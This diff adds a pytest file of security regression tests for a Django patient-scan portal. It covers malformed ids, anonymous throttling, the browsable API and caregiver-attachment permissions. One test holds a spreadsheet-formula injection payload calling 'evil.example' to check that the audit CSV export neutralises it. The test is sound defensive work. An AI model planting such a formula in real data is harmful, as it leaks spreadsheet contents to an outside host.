@@ -1,0 +1,108 @@
+"""Input edges, as the security review found them: odd ids, spreadsheet formulas, anonymous noise,
+the browsable API's forms, and who may attach a caregiver."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from rest_framework.test import APIClient
+
+from portal.ids import ID_MAX, parse_id
+from portal.models import AuditEvent, Patient
+from tests import factories
+
+pytestmark = pytest.mark.django_db
+
+ODD_IDS = ["²", "٣", "1²", str(ID_MAX + 1), "9" * 40, "-1", "1.5", "0x10"]
+
+
+@pytest.mark.parametrize("value", ODD_IDS)
+def test_the_history_page_answers_an_odd_patient_filter_with_a_400_not_a_500(client, people, value):
+    client.force_login(people.alice)
+    response = client.get("/scans/", {"patient": value})
+    assert response.status_code == 400
+    assert "patient" in response.content.decode()
+
+
+@pytest.mark.parametrize("value", ODD_IDS)
+def test_the_api_answers_an_odd_patient_filter_with_a_400_not_a_500(api, people, value):
+    assert api(people.alice).get("/api/v1/scans/", {"patient": value}).status_code == 400
+
+
+@pytest.mark.parametrize("path", [
+    "/scans/{}/", "/scans/patients/{}/", "/api/v1/scans/{}/", "/api/v1/patients/{}/", "/api/v1/patients/{}/timeline/",
+    "/api/v1/scans/{}/image/"])
+def test_an_id_past_64_bits_in_a_path_is_not_found_not_a_server_error(client, people, path):
+    client.force_login(people.alice)
+    for value in (str(ID_MAX + 1), "9" * 40):
+        assert client.get(path.format(value)).status_code == 404
+
+
+def test_a_row_id_is_ascii_digits_within_64_bits():
+    assert parse_id("42") == 42 and parse_id(str(ID_MAX)) == ID_MAX
+    assert [parse_id(value) for value in ODD_IDS + ["", " 1"]] == [None] * (len(ODD_IDS) + 2)
+
+
+def test_the_audit_export_neutralises_spreadsheet_formulas(client, django_user_model, people, api):
+    api(people.alice).get(f"/api/v1/patients/{people.patient.id}/",
+                          HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    admin = django_user_model.objects.create_superuser("root", "root@example.org", "pw-for-admin-tests")
+    client.force_login(admin)
+    event = AuditEvent.objects.get(username="alice")
+    export = client.post("/admin/portal/auditevent/", {"action": "export_csv", "_selected_action": [event.id]})
+    rows = list(csv.reader(io.StringIO(export.content.decode())))
+    agent = rows[1][rows[0].index("user_agent")]
+    assert agent == """'=HYPERLINK("http://evil.example/?"&A1,"open")"""
+
+
+def test_anonymous_requests_write_no_audit_rows(client, people):
+    for path in (f"/api/v1/patients/{people.patient.id}/", "/api/v1/scans/", f"/scans/patients/{people.patient.id}/"):
+        assert client.get(path).status_code in {401, 302}
+    assert not AuditEvent.objects.exists()
+
+
+def test_anonymous_api_requests_are_throttled_per_address(settings):
+    from rest_framework.settings import api_settings
+    from rest_framework.throttling import SimpleRateThrottle
+
+    rates = settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"]
+    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {**rates, "anon": "3/min"}}
+    api_settings.reload()
+    SimpleRateThrottle.THROTTLE_RATES = api_settings.DEFAULT_THROTTLE_RATES
+    try:
+        prober = APIClient(REMOTE_ADDR="2001:db8::7")
+        codes = [prober.get("/api/v1/scans/", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code for n in range(5)]
+        assert codes == [401, 401, 401, 429, 429]
+    finally:
+        settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
+        api_settings.reload()
+        SimpleRateThrottle.THROTTLE_RATES = api_settings.DEFAULT_THROTTLE_RATES
+
+
+def test_the_browsable_api_is_off_so_its_forms_list_no_caregivers(api, people):
+    response = api(people.carol).get("/api/v1/patients/", HTTP_ACCEPT="text/html")
+    assert response["Content-Type"].startswith("application/json") or response.status_code == 406
+    assert b"<form" not in response.content and people.dave.username.encode() not in response.content
+
+
+def test_a_clinician_cannot_attach_a_caregiver_to_a_new_patient(api, people):
+    from portal.models import Caregiver
+
+    dave = Caregiver.objects.get(user=people.dave)
+    response = api(people.alice).post("/api/v1/patients/", {"mrn": "MRN-NEW-1", "full_name": "New Patient",
+                                                            "caregivers": [dave.id]}, format="json")
+    assert response.status_code == 403
+    assert not Patient.objects.filter(mrn="MRN-NEW-1").exists()
+
+
+def test_the_staff_desk_can_attach_a_caregiver(api, people):
+    from portal.models import Caregiver
+
+    dave = Caregiver.objects.get(user=people.dave)
+    response = api(people.triage).post("/api/v1/patients/", {"mrn": "MRN-NEW-2", "full_name": "New Patient",
+                                                             "care_team": people.team.id, "caregivers": [dave.id]},
+                                       format="json")
+    assert response.status_code == 201
+    assert list(Patient.objects.get(mrn="MRN-NEW-2").caregivers.all()) == [dave]
